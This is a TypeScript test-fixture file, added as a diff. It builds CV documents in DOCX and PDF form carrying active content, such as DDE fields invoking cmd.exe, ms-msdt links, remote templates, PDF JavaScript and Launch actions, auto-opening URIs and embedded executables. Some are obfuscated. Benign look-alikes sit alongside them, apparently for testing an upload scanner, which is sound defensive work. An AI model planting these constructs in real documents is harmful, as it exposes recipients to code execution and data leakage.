@@ -1,0 +1,177 @@
+// CVs that would run, fetch or open something, each made by hand; and plain ones that look a little like them.
+import { deflateSync } from 'node:zlib';
+import { DOCX, docx, pdfOf, zip, type ZipEntry } from './papers.ts';
+
+type Case = [what: string, make: () => Buffer];
+
+const RELS = 'word/_rels/document.xml.rels';
+const SETTINGS_RELS = 'word/_rels/settings.xml.rels';
+const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+
+const rels = (type: string, target: string, mode = ' TargetMode="External"') =>
+  `<Relationships><Relationship Id="r1" Type="${TYPE}/${type}" Target="${target}"${mode}/></Relationships>`;
+const withPart = (name: string, data: Buffer | string) => docx(['Kế toán'], [{ name, data }]);
+
+const TYPES = (more: string) =>
+  `<Types><Override PartName="/word/document.xml" ContentType="${DOCX}.main+xml"/>${more}</Types>`;
+const withDocument = (body: string, more: ZipEntry[] = [], types = '') =>
+  zip([
+    { name: '[Content_Types].xml', data: TYPES(types) },
+    { name: 'word/document.xml', data: `<w:document><w:body>${body}</w:body></w:document>` },
+    ...more,
+  ]);
+
+const begin = '<w:fldChar w:fldCharType="begin"/>';
+const instruction = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
+const field = (...pieces: string[]) =>
+  withDocument(`<w:p><w:r>${begin}</w:r>${pieces.map(instruction).join('')}</w:p>`);
+
+export const ACTIVE_DOCX: Case[] = [
+  [
+    'an outside template',
+    () => withPart(SETTINGS_RELS, rels('attachedTemplate', 'http://x/a.dotm')),
+  ],
+  [
+    'an outside template in another notation',
+    () =>
+      withPart(
+        SETTINGS_RELS,
+        `<n:Relationships><n:Relationship TargetMode='&#69;xternal' Target='file:///a' Type='${TYPE}/attachedT&#x65;mplate'/></n:Relationships>`,
+      ),
+  ],
+  ['a picture from elsewhere', () => withPart(RELS, rels('image', 'https://x/a.png'))],
+  ['a link into the local network', () => withPart(RELS, rels('hyperlink', '\\\\\\\\x\\a'))],
+  ['a link that runs something', () => withPart(RELS, rels('hyperlink', 'ms-msdt:/id'))],
+  ['an OLE object', () => withPart(RELS, rels('oleObject', 'embeddings/a.bin', ''))],
+  ['an embedded file', () => withPart('word/embeddings/Sheet.xlsx', 'PK')],
+  ['macros', () => withPart('word/vbaProject.bin', 'A')],
+  [
+    'macros under another name',
+    () =>
+      withDocument(
+        '<w:p/>',
+        [],
+        '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>',
+      ),
+  ],
+  ['a control', () => withPart('word/activeX/activeX1.xml', '<a/>')],
+  ['a part of another format', () => withDocument('<w:altChunk r:id="r1"/>')],
+  ['a DDE field', () => field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')],
+  ['a DDE field in pieces', () => field(' DD', 'EAU', 'TO cmd ')],
+  ['a DDE field of figures', () => field(' QUOTE 68 68 69 ')],
+  [
+    'a DDE field on its own',
+    () => withDocument('<w:fldSimple w:instr=" DDE cmd "><w:r/></w:fldSimple>'),
+  ],
+  ['a field that fetches a picture', () => field(' INCLUDEPICTURE "http://x/a" \\d ')],
+  [
+    'a field that fetches text',
+    () => withPart('word/header1.xml', `<w:hdr>${begin}${instruction('INCLUDETEXT "a"')}</w:hdr>`),
+  ],
+];
+
+ACTIVE_DOCX.push([
+  'a field in a part under another name',
+  () => withPart('word/header.dat', `<w:hdr>${begin}${instruction('DDE cmd')}</w:hdr>`),
+]);
+
+export const PLAIN_DOCX: Case[] = [
+  [
+    'links to web pages and mail',
+    () => withPart(RELS, rels('hyperlink', 'https://github.com/linh/import')),
+  ],
+  [
+    'a page number and a link as fields',
+    () =>
+      withDocument(
+        `<w:p><w:r>${begin}</w:r>${instruction(' PAGE ')}<w:r>${begin}</w:r>${instruction(' HYPERLINK "https://x/rd/link/quote" ')}</w:p>`,
+      ),
+  ],
+  [
+    'a text about macros, DDE and OLE',
+    () => docx(['DDE, macroEnabled, oleObject, attachedTemplate']),
+  ],
+];
+
+const CATALOG = (more: string) => `<< /Type /Catalog /Pages 2 0 R ${more} >>`;
+const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
+const PAGE = (more = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] ${more} >>`;
+const made = (catalog: string, page = '', ...more: string[]) =>
+  pdfOf([CATALOG(catalog), PAGES, PAGE(page), ...more]);
+
+/** Objects packed into an object stream, which a reader finds through a cross-reference stream. */
+function packed(catalog: string, ...more: string[]): Buffer {
+  const objects = [CATALOG(catalog), PAGES, PAGE(), ...more];
+  const pairs: string[] = [];
+  let inside = '';
+  for (const [nth, object] of objects.entries()) {
+    pairs.push(`${nth + 1} ${inside.length}`);
+    inside += `${object} `;
+  }
+  const head = `${pairs.join(' ')} `;
+  const data = deflateSync(Buffer.from(head + inside, 'latin1')).toString('latin1');
+  const number = objects.length + 1;
+  let text = '%PDF-1.5\n';
+  const place = text.length;
+  text += `${number} 0 obj\n<< /Type /Obj#53tm /N ${objects.length} /First ${head.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream\nendobj\n`;
+  const from = text.length;
+  const row = (kind: number, a: number, b: number) => Buffer.from([kind, a >> 8, a & 255, b]);
+  const rows = Buffer.concat([
+    row(0, 0, 255),
+    ...objects.map((_, nth) => row(2, number, nth)),
+    row(1, place, 0),
+    row(1, from, 0),
+  ]).toString('latin1');
+  text += `${number + 1} 0 obj\n<< /Type /XRef /Size ${number + 2} /W [1 2 1] /Root 1 0 R /Length ${rows.length} >>\nstream\n${rows}\nendstream\nendobj\nstartxref\n${from}\n%%EOF\n`;
+  return Buffer.from(text, 'latin1');
+}
+
+const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
+const onPage = (action: string) =>
+  made('', `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`);
+
+export const ACTIVE_PDF: Case[] = [
+  ['a script when it opens', () => made(`/OpenAction ${SCRIPT}`)],
+  ['a script under escaped names', () => made('/OpenAction << /#53 /J#61vaScript /#4a#53 (a) >>')],
+  ['a script in an object stream', () => packed('/OpenAction 4 0 R', SCRIPT)],
+  [
+    'a script among the names',
+    () => made('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', '', SCRIPT),
+  ],
+  ['a program to start', () => onPage('<< /S /Launch /F (cmd.exe) >>')],
+  ['an address that opens by itself', () => made('/OpenAction << /S /URI /URI (http://x) >>')],
+  [
+    'an address that opens by itself, by number',
+    () => made('/OpenAction 4 0 R', '', '<< /S /URI /URI (http://x) >>'),
+  ],
+  [
+    'an address that opens by itself, packed',
+    () => packed('/OpenAction 4 0 R', '<< /S /URI /URI (http://x) >>'),
+  ],
+  ['an action that nobody can find', () => made('/OpenAction 99 0 R')],
+  ['an action of a page', () => made('', '/AA << /O << /S /URI /URI (http://x) >> >>')],
+  ['a form that sends', () => onPage('<< /S /SubmitForm /F (http://x) >>')],
+  ['a form of another kind', () => made('/AcroForm << /XFA 4 0 R /Fields [] >>')],
+  [
+    'an attachment',
+    () =>
+      made(
+        '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>',
+        '',
+        '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
+      ),
+  ],
+  ['another file to open', () => onPage('<< /S /GoToR /F (\\\\\\\\x\\\\a.pdf) /D [0 /Fit] >>')],
+  ['a film', () => onPage('<< /S /Rendition /R 4 0 R >>')],
+];
+
+export const PLAIN_PDF: Case[] = [
+  ['links to web pages', () => onPage('<< /S /URI /URI (https://github.com/linh) >>')],
+  ['a page to open at', () => made('/OpenAction [3 0 R /Fit]')],
+  [
+    'a page to open at, as an action',
+    () => made('/OpenAction 4 0 R', '', '<< /S /GoTo /D [3 0 R /Fit] >>'),
+  ],
+  ['object streams', () => packed('/OpenAction 4 0 R', '<< /S /GoTo /D [3 0 R /Fit] >>')],
+  ['a title about JavaScript', () => made('', '', '<< /Title (JavaScript, Launch, JS) >>')],
+];
